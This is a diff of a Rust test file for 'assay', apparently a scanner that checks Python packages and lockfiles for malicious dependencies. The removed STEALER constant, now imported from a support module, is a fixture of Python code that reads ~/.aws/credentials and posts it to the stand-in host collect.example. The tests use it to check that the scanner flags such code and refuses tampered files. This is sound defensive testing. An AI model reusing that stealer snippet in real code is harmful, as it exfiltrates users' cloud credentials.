@@ -4,96 +4,15 @@
 
 mod support;
 
-use std::path::Path;
 use std::process::Command;
 
 use assert_cmd::prelude::*;
 use serde_json::Value;
-use support::{Dist, IndexServer, sha256_hex, write};
-
-const STEALER: &str = "import os, urllib.request\n\
-creds = open(os.path.expanduser('~/.aws/credentials')).read()\n\
-urllib.request.urlopen('https://collect.example/c', data=creds.encode())\n";
-
-fn tidy() -> Dist<'static> {
-    Dist {
-        name: "tidy",
-        version: "1.0",
-        requires: &[],
-        files: &[("tidy/__init__.py", "def tidy(x):\n    return x.strip()\n")],
-    }
-}
-
-fn app() -> Dist<'static> {
-    Dist {
-        name: "app",
-        version: "1.0",
-        requires: &["helper>=0.1", "tidy"],
-        files: &[("app/__init__.py", "import helper\n")],
-    }
-}
-
-fn helper() -> Dist<'static> {
-    Dist {
-        name: "helper",
-        version: "0.2",
-        requires: &[],
-        files: &[("helper/__init__.py", STEALER)],
-    }
-}
-
-/// The index with tidy (sdist and wheel), app (wheel) and helper (wheel).
-fn server() -> IndexServer {
-    IndexServer::start(&[
-        tidy().sdist(),
-        tidy().wheel(),
-        app().wheel(),
-        helper().wheel(),
-    ])
-}
-
-fn assay(cache: &Path) -> Command {
-    let mut cmd = Command::cargo_bin("assay").expect("binary");
-    cmd.env_remove("PIP_INDEX_URL")
-        .env_remove("PIP_EXTRA_INDEX_URL")
-        .env_remove("UV_DEFAULT_INDEX")
-        .env_remove("UV_INDEX_URL")
-        .env("PIP_CONFIG_FILE", "/dev/null")
-        .env("NO_COLOR", "1")
-        .args([
-            "scan",
-            "--format",
-            "json",
-            "--python-version",
-            "3.11",
-            "--cache-dir",
-        ])
-        .arg(cache);
-    cmd
-}
-
-fn json(output: &std::process::Output) -> Value {
-    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
-        panic!(
-            "not JSON ({e}): {}\nstderr: {}",
-            String::from_utf8_lossy(&output.stdout),
-            String::from_utf8_lossy(&output.stderr)
-        )
-    })
-}
-
-fn artifact<'a>(doc: &'a Value, filename_start: &str) -> &'a Value {
-    doc["artifacts"]
-        .as_array()
-        .expect("artifacts")
-        .iter()
-        .find(|a| {
-            a["target"]
-                .as_str()
-                .is_some_and(|t| t.starts_with(filename_start))
-        })
-        .unwrap_or_else(|| panic!("no artifact {filename_start} in {doc:#}"))
-}
+use support::proxy::FaultProxy;
+use support::{
+    Dist, IndexServer, STEALER, app, artifact, assay, assert_verdicts, helper, json, report,
+    server, sha256_hex, targets, tidy, write,
+};
 
 #[test]
 fn a_name_scans_its_sdist_and_wheel() {
@@ -103,19 +22,8 @@ fn a_name_scans_its_sdist_and_wheel() {
         .args(["--index-url", &index.index_url(), "tidy"])
         .output()
         .unwrap();
-    assert_eq!(
-        output.status.code(),
-        Some(0),
-        "{}",
-        String::from_utf8_lossy(&output.stderr)
-    );
-    let doc = json(&output);
-    let targets: Vec<&str> = doc["artifacts"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|a| a["target"].as_str().unwrap())
-        .collect();
+    let doc = report(&output, 0);
+    let targets = targets(&doc);
     assert_eq!(targets.len(), 2, "{targets:?}");
     assert!(targets.contains(&"tidy-1.0.tar.gz") && targets.contains(&"tidy-1.0-py3-none-any.whl"));
     for a in doc["artifacts"].as_array().unwrap() {
@@ -139,13 +47,7 @@ fn a_malicious_transitive_dependency_is_found_and_explained() {
         .args(["--index-url", &index.index_url(), "app==1.0"])
         .output()
         .unwrap();
-    assert_eq!(
-        output.status.code(),
-        Some(1),
-        "{}",
-        String::from_utf8_lossy(&output.stderr)
-    );
-    let doc = json(&output);
+    let doc = report(&output, 1);
     let helper = artifact(&doc, "helper-0.2");
     assert_eq!(helper["verdict"]["label"], "malicious", "{helper:#}");
     let chains = helper["provenance"]["required_by"].to_string();
@@ -184,13 +86,7 @@ fn a_requirements_file_with_a_wrong_hash_is_refused() {
         .output()
         .unwrap();
     // helper is malicious: 1 wins over the refused downloads.
-    assert_eq!(
-        output.status.code(),
-        Some(1),
-        "{}",
-        String::from_utf8_lossy(&output.stderr)
-    );
-    let doc = json(&output);
+    let doc = report(&output, 1);
     let tidy_wheel = artifact(&doc, "tidy-1.0-py3");
     assert!(
         tidy_wheel["verdict"].is_null(),
@@ -242,13 +138,7 @@ fn a_lockfile_scans_exactly_its_files_and_checks_their_hashes() {
     );
     let path = write(dir.path(), "pylock.toml", &lock);
     let output = assay(cache.path()).arg(&path).output().unwrap();
-    assert_eq!(
-        output.status.code(),
-        Some(1),
-        "{}",
-        String::from_utf8_lossy(&output.stderr)
-    );
-    let doc = json(&output);
+    let doc = report(&output, 1);
     assert_eq!(doc["artifacts"].as_array().unwrap().len(), 2, "{doc:#}");
     assert_eq!(
         artifact(&doc, "helper-0.2")["verdict"]["label"],
@@ -336,4 +226,243 @@ fn a_warm_cache_needs_no_server() {
         Some(2),
         "after clean, with the server gone, the scan cannot run"
     );
+}
+
+// Lockfiles written by the tests against the local server: uv.lock names
+// URLs and digests, poetry.lock file names and digests, Pipfile.lock only
+// digests (those two are matched on the index).
+
+/// `util 1.0` as its author published it...
+fn util() -> Dist<'static> {
+    Dist {
+        name: "util",
+        version: "1.0",
+        requires: &[],
+        files: &[("util/__init__.py", "def add(a, b):\n    return a + b\n")],
+    }
+}
+
+/// ...and as the index serves it now, under the same file name: replaced
+/// by a credential stealer after the lockfile was written.
+fn util_tampered() -> Dist<'static> {
+    Dist {
+        files: &[("util/__init__.py", STEALER)],
+        ..util()
+    }
+}
+
+/// tidy (sdist and wheel), app (wheel, requires helper and tidy), helper
+/// (wheel, malicious) and the tampered util wheel.
+fn lock_server() -> IndexServer {
+    IndexServer::start(&[
+        tidy().sdist(),
+        tidy().wheel(),
+        app().wheel(),
+        helper().wheel(),
+        util_tampered().wheel(),
+    ])
+}
+
+fn digest(file: (String, Vec<u8>)) -> String {
+    sha256_hex(&file.1)
+}
+
+/// The tampered util wheel is in the report, refused: no verdict, no
+/// finding, an error saying why.
+fn assert_refused(doc: &Value, filename: &str, why: &str) {
+    let util = artifact(doc, filename);
+    assert!(
+        util["verdict"].is_null(),
+        "a tampered file was scanned: {util:#}"
+    );
+    assert_eq!(util["findings"].as_array().unwrap().len(), 0, "{util:#}");
+    let errors = util["errors"].to_string();
+    assert!(errors.contains(why), "{errors}");
+}
+
+#[test]
+fn a_uv_lock_scans_its_files_finds_the_malicious_dependency_and_refuses_a_tampered_file() {
+    let index = lock_server();
+    let cache = tempfile::tempdir().unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let registry = index.index_url();
+    let entry = |file: (String, Vec<u8>)| {
+        format!(
+            "{{ url = \"{}\", hash = \"sha256:{}\", size = {} }}",
+            index.file_url(&file.0),
+            sha256_hex(&file.1),
+            file.1.len()
+        )
+    };
+    let lock = format!(
+        "version = 1\nrequires-python = \">=3.8\"\n\n\
+         [[package]]\nname = \"app\"\nversion = \"1.0\"\nsource = {{ registry = \"{registry}\" }}\n\
+         dependencies = [{{ name = \"helper\" }}, {{ name = \"tidy\" }}, {{ name = \"util\" }}]\n\
+         wheels = [{}]\n\n\
+         [[package]]\nname = \"helper\"\nversion = \"0.2\"\nsource = {{ registry = \"{registry}\" }}\n\
+         wheels = [{}]\n\n\
+         [[package]]\nname = \"tidy\"\nversion = \"1.0\"\nsource = {{ registry = \"{registry}\" }}\n\
+         sdist = {}\nwheels = [{}]\n\n\
+         [[package]]\nname = \"util\"\nversion = \"1.0\"\nsource = {{ registry = \"{registry}\" }}\n\
+         wheels = [{}]\n",
+        entry(app().wheel()),
+        entry(helper().wheel()),
+        entry(tidy().sdist()),
+        entry(tidy().wheel()),
+        // The digest the lock recorded: the genuine wheel's.
+        entry(util().wheel()),
+    );
+    let path = write(dir.path(), "uv.lock", &lock);
+    let output = assay(cache.path()).arg(&path).output().unwrap();
+    let doc = report(&output, 1);
+    let targets = targets(&doc);
+    assert_eq!(targets.len(), 5, "exactly the locked files: {targets:?}");
+    assert_verdicts(&doc, "malicious", &["helper-0.2"]);
+    let helper = artifact(&doc, "helper-0.2");
+    let why = helper["provenance"]["required_by"][0].as_str().unwrap();
+    assert!(
+        why.starts_with("uv.lock:") && why.contains("helper 0.2"),
+        "{why}"
+    );
+    assert_verdicts(
+        &doc,
+        "clean",
+        &["app-1.0", "tidy-1.0.tar.gz", "tidy-1.0-py3"],
+    );
+    assert_refused(&doc, "util-1.0", "digest mismatch");
+}
+
+#[test]
+fn a_poetry_lock_is_matched_on_the_index_by_file_name_and_digest() {
+    let index = lock_server();
+    let cache = tempfile::tempdir().unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let files = |list: &[(String, Vec<u8>)]| {
+        let entries: Vec<String> = list
+            .iter()
+            .map(|(name, bytes)| {
+                format!(
+                    "    {{file = \"{name}\", hash = \"sha256:{}\"}},\n",
+                    sha256_hex(bytes)
+                )
+            })
+            .collect();
+        format!("files = [\n{}]\n", entries.concat())
+    };
+    let package = |name: &str, version: &str, list: &[(String, Vec<u8>)]| {
+        format!(
+            "[[package]]\nname = \"{name}\"\nversion = \"{version}\"\ndescription = \"\"\n\
+             optional = false\npython-versions = \"*\"\n{}\n",
+            files(list)
+        )
+    };
+    let lock = [
+        "# This file is automatically @generated by Poetry and should not be changed by hand.\n\n"
+            .to_owned(),
+        package("app", "1.0", &[app().wheel()]),
+        "[package.dependencies]\nhelper = \">=0.1\"\ntidy = \"*\"\nutil = \"*\"\n\n".to_owned(),
+        package("helper", "0.2", &[helper().wheel()]),
+        package("tidy", "1.0", &[tidy().sdist(), tidy().wheel()]),
+        package("util", "1.0", &[util().wheel()]),
+        package(
+            "gone",
+            "2.0",
+            &[("gone-2.0.tar.gz".to_owned(), b"gone".to_vec())],
+        ),
+        "[metadata]\nlock-version = \"2.0\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n"
+            .to_owned(),
+    ]
+    .concat();
+    let path = write(dir.path(), "poetry.lock", &lock);
+    let output = assay(cache.path())
+        .args(["--index-url", &index.index_url()])
+        .arg(&path)
+        .output()
+        .unwrap();
+    let doc = report(&output, 1);
+    assert_eq!(doc["artifacts"].as_array().unwrap().len(), 6, "{doc:#}");
+    assert_verdicts(&doc, "malicious", &["helper-0.2"]);
+    let helper = artifact(&doc, "helper-0.2");
+    // The lock names no URL: the files were found on the index.
+    let url = helper["provenance"]["url"].as_str().unwrap();
+    assert_eq!(url, index.file_url("helper-0.2-py3-none-any.whl"));
+    assert_verdicts(
+        &doc,
+        "clean",
+        &["app-1.0", "tidy-1.0.tar.gz", "tidy-1.0-py3"],
+    );
+    // The index's digest matches what it serves; the lock's does not.
+    assert_refused(&doc, "util-1.0", "pins this file to");
+    let gone = artifact(&doc, "gone");
+    assert!(
+        gone["errors"]
+            .to_string()
+            .contains("no longer on the index"),
+        "{gone:#}"
+    );
+}
+
+#[test]
+fn a_pipfile_lock_is_matched_on_the_index_by_digest_only() {
+    let index = lock_server();
+    let proxy = FaultProxy::start(&index);
+    let cache = tempfile::tempdir().unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let lock = serde_json::json!({
+        "_meta": {
+            "hash": {"sha256": "0"},
+            "pipfile-spec": 6,
+            "requires": {"python_version": "3.11"},
+            "sources": [{"name": "local", "url": proxy.index_url(), "verify_ssl": false}]
+        },
+        "default": {
+            "app": {"hashes": [format!("sha256:{}", digest(app().wheel()))], "index": "local", "version": "==1.0"},
+            "helper": {"hashes": [format!("sha256:{}", digest(helper().wheel()))], "index": "local", "version": "==0.2"},
+            "tidy": {
+                "hashes": [
+                    format!("sha256:{}", digest(tidy().sdist())),
+                    format!("sha256:{}", digest(tidy().wheel()))
+                ],
+                "index": "local",
+                "version": "==1.0"
+            },
+            "util": {"hashes": [format!("sha256:{}", digest(util().wheel()))], "index": "local", "version": "==1.0"}
+        },
+        "develop": {}
+    });
+    let path = write(
+        dir.path(),
+        "Pipfile.lock",
+        &serde_json::to_string_pretty(&lock).unwrap(),
+    );
+    let output = assay(cache.path())
+        .args(["--index-url", &proxy.index_url()])
+        .arg(&path)
+        .output()
+        .unwrap();
+    let doc = report(&output, 1);
+    assert_eq!(doc["artifacts"].as_array().unwrap().len(), 5, "{doc:#}");
+    assert_verdicts(&doc, "malicious", &["helper-0.2"]);
+    let clean = ["app-1.0", "tidy-1.0.tar.gz", "tidy-1.0-py3"];
+    assert_verdicts(&doc, "clean", &clean);
+    // The lock names no file: they were found on the index by digest.
+    for name in clean {
+        let url = artifact(&doc, name)["provenance"]["url"].to_string();
+        assert!(
+            url.starts_with(&format!("\"{}/packages/", proxy.root)),
+            "{url}"
+        );
+    }
+    // No file of util has a locked digest: nothing is downloaded, the
+    // package is reported.
+    let util = artifact(&doc, "util");
+    assert!(util["verdict"].is_null(), "{util:#}");
+    assert!(
+        util["errors"]
+            .to_string()
+            .contains("matches the lockfile's digests"),
+        "{util:#}"
+    );
+    assert_eq!(proxy.hits("/packages/util-1.0-py3-none-any.whl"), 0);
+    assert_eq!(proxy.hits("/packages/helper-0.2-py3-none-any.whl"), 1);
 }
